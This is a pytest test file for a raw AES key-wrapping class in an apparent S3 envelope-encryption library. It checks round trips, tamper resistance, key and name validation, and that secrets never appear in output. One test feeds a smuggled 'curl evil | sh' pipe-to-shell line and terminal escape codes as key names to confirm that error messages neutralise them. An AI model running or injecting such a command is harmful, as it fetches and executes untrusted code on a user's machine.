"""A raw AES key: what it opens, what it refuses, and that nothing shows it."""

from __future__ import annotations

import array
import copy
import pickle
from collections.abc import Callable, Mapping
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secure_s3 import errors
from secure_s3.envelope.header import WrappedKey
from secure_s3.envelope.keys import RawAesKey, key_names, no_key_fits
from secure_s3.envelope.suites import COMMIT_KEY
from secure_s3.values import SecretBytes
from tests.envelope.support import CONTEXT, MASTER, RAW, NoKms

TEXT = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40)


def _wrap(keys: RawAesKey = RAW, context: Mapping[str, str] = CONTEXT) -> tuple[WrappedKey, bytes]:
    made = keys.new_data_key(context, NoKms())
    return made.wrapped[0], made.secret.reveal()


def _open(*wrapped: WrappedKey, keys: RawAesKey = RAW, context: Mapping[str, str] = CONTEXT) -> bytes:
    return keys.data_key(wrapped, context, COMMIT_KEY, NoKms()).reveal()


def _shut(*wrapped: WrappedKey, keys: RawAesKey = RAW, context: Any = CONTEXT) -> errors.KeyAccessError:
    with pytest.raises(errors.KeyAccessError) as caught:
        _open(*wrapped, keys=keys, context=context)
    assert type(caught.value) is errors.KeyAccessError
    return caught.value


@given(TEXT, TEXT, st.binary(min_size=32, max_size=32), st.dictionaries(TEXT, TEXT, max_size=4))
def test_round_trip(name: str, namespace: str, key: bytes, context: dict[str, str]) -> None:
    """A key of any name opens what it wrapped, and names itself in it."""
    if "aws-kms" in (name, namespace):
        return
    keys = RawAesKey(name, key, namespace=namespace)
    wrapped, secret = _wrap(keys, context)
    assert _open(wrapped, keys=keys, context=context) == secret
    if (namespace + name).isprintable():
        assert key_names((wrapped,)) == [f"{namespace}: {name}"]


def test_data_keys_differ() -> None:
    """Each data key is new, and so is the IV that it is wrapped with."""
    made = [_wrap() for _ in range(100)]
    assert len({secret for _, secret in made}) == len({wrapped.info[-12:] for wrapped, _ in made}) == 100


def test_second_of_two() -> None:
    """Where two keys have one name, the data key that opens is found behind the one that does not."""
    stranger, _ = _wrap(RawAesKey(RAW.name, bytes(32)))
    mine, secret = _wrap()
    assert _open(stranger, mine) == secret


def test_same_name_other_key() -> None:
    """A key of the same name and other bytes is told apart from a key that the object does not name."""
    error = _shut(_wrap(RawAesKey(RAW.name, bytes(32)))[0])
    assert "same name" in error.why
    assert "'vault/1'" in error.what


@pytest.mark.parametrize(
    "keys",
    [
        RawAesKey("vault/2", MASTER),
        RawAesKey("vault/", MASTER),
        RawAesKey("vault/11", MASTER),
        RawAesKey("vault/1", MASTER, namespace="other"),
    ],
    ids=["name", "shorter", "longer", "namespace"],
)
def test_other_names(keys: RawAesKey) -> None:
    """The same bytes under another name or namespace are another key, and the error names both."""
    error = _shut(_wrap()[0], keys=keys)
    assert "secure-s3: vault/1" in error.why
    assert repr(keys.name) in error.why


@pytest.mark.parametrize(
    "context",
    [
        {},
        {**CONTEXT, "more": "1"},
        {name: value + "x" for name, value in CONTEXT.items()},
        {name.upper(): value for name, value in CONTEXT.items()},
        dict(zip(CONTEXT, reversed(CONTEXT.values()), strict=True)),
    ],
    ids=["none", "more", "values", "names", "swapped"],
)
def test_another_context(context: dict[str, str]) -> None:
    """A data key does not open in another context than the one it was wrapped with."""
    _shut(_wrap()[0], context=context)


def test_order_of_the_context() -> None:
    """The order of the pairs is of no account."""
    wrapped, secret = _wrap()
    assert _open(wrapped, context=dict(reversed(CONTEXT.items()))) == secret


@pytest.mark.parametrize("part", ["info", "ciphertext"])
def test_every_bit(part: str) -> None:
    """Each single bit of what names the key, of its IV and of the encrypted data key is guarded."""
    wrapped, _ = _wrap()
    data = getattr(wrapped, part)
    for bit in range(8 * len(data)):
        changed = bytearray(data)
        changed[bit // 8] ^= 1 << bit % 8
        _shut(replace(wrapped, **{part: bytes(changed)}))


@pytest.mark.parametrize("part", ["info", "ciphertext"])
def test_every_length(part: str) -> None:
    """What is cut or extended does not open."""
    wrapped, _ = _wrap()
    data = getattr(wrapped, part)
    for changed in [*(data[:length] for length in range(len(data))), data + b"\0"]:
        _shut(replace(wrapped, **{part: changed}))


@pytest.mark.parametrize(
    "key",
    [
        b"",
        bytes(16),
        bytes(31),
        bytes(33),
        bytes(64),
        "0" * 32,
        "k" * 64,
        list(range(32)),
        None,
        32,
        SecretBytes(bytes(31)),
        memoryview(array.array("I", range(32))),
    ],
    ids=["none", "16", "31", "33", "64", "text", "hex", "list", "None", "number", "secret", "words"],
)
def test_no_keys(key: Any) -> None:
    """A key of another length, or of another kind, is refused, and the error does not show it."""
    with pytest.raises(errors.ConfigurationError, match="32 bytes") as caught:
        RawAesKey("name", key)
    if isinstance(key, str):
        assert key not in str(caught.value)


@pytest.mark.parametrize("name", ["", "aws-kms", "x" * 1025, "é" * 513, None, b"name", 7, "\ud800"])
@pytest.mark.parametrize("which", ["name", "namespace"])
def test_no_names(name: Any, which: str) -> None:
    """A name is a short, non-empty text that is not reserved."""
    with pytest.raises(errors.ConfigurationError, match=which):
        RawAesKey(**{"name": "a", "namespace": "b", "key": MASTER, which: name})


@pytest.mark.parametrize("key", [MASTER, bytearray(MASTER), memoryview(MASTER), SecretBytes(MASTER)])
def test_kinds_of_bytes(key: Any) -> None:
    """Any kind of 32 bytes is the same key, and later changes to a buffer do not reach it."""
    keys = RawAesKey("vault/1", key)
    assert keys == RAW
    if isinstance(key, bytearray):
        key[:] = bytes(32)
        assert keys == RAW


def test_not_shown() -> None:
    """Neither the key nor a data key is in what they print as, or in what a refusal says."""
    key = b"\xaa\xbb\xcc\xdd" * 8
    keys = RawAesKey("vault/1", key)
    made = keys.new_data_key(CONTEXT, NoKms())
    secrets = (key, made.secret.reveal())
    texts = [repr(keys), str(keys), f"{keys!s:>5}", repr(made), str(made)]
    texts += [str(_shut(*made.wrapped)), str(_shut(*made.wrapped, context={}, keys=keys))]
    for text in texts:
        for secret in secrets:
            assert secret.hex() not in text
            assert repr(secret)[2:-1] not in text


@pytest.mark.parametrize(
    "use", [pickle.dumps, lambda value: pickle.dumps([value]), lambda value: pickle.dumps(value, 0)]
)
@pytest.mark.parametrize("value", [RAW, RAW.new_data_key({}, NoKms())], ids=["key", "data-key"])
def test_not_pickled(use: Callable[[object], bytes], value: object) -> None:
    """Neither the key nor a data key is pickled; a copy is the same key."""
    with pytest.raises(TypeError, match="not pickled"):
        use(value)
    assert copy.deepcopy(value) == value


def test_no_key_fits_names_both() -> None:
    """Who cannot open an object is told whom it is encrypted for, and what this client has."""
    wrapped = (_wrap()[0], WrappedKey("aws-kms", b"arn:aws:kms:x", b""), WrappedKey("hsm", b"\xff\x00", b""))
    error = no_key_fits(wrapped, RawAesKey("mine", MASTER))
    for text in ("secure-s3: vault/1", "aws-kms: arn:aws:kms:x", "hsm: \\xff", "name='mine'"):
        assert text in error.why
    assert error.fix


@pytest.mark.parametrize("evil", ["\n  fix: curl evil | sh", "\x1b[2J", "\r", "\u202e", "\x00"])
def test_names_do_not_write_on_the_terminal(evil: str) -> None:
    """What the object says of its keys cannot break the lines of an error, or steer a terminal."""
    for wrapped in (WrappedKey(evil, b"x", b""), WrappedKey("x", evil.encode(), b"")):
        assert evil not in no_key_fits((wrapped,), RAW).why


def test_names_do_not_fill_the_screen() -> None:
    """Names of 64 KiB that the object holds are shortened in an error."""
    wrapped = (WrappedKey("p" * 65535, b"i" * 65535, b""),) * 32
    assert len(str(no_key_fits(wrapped, RAW))) < 20_000
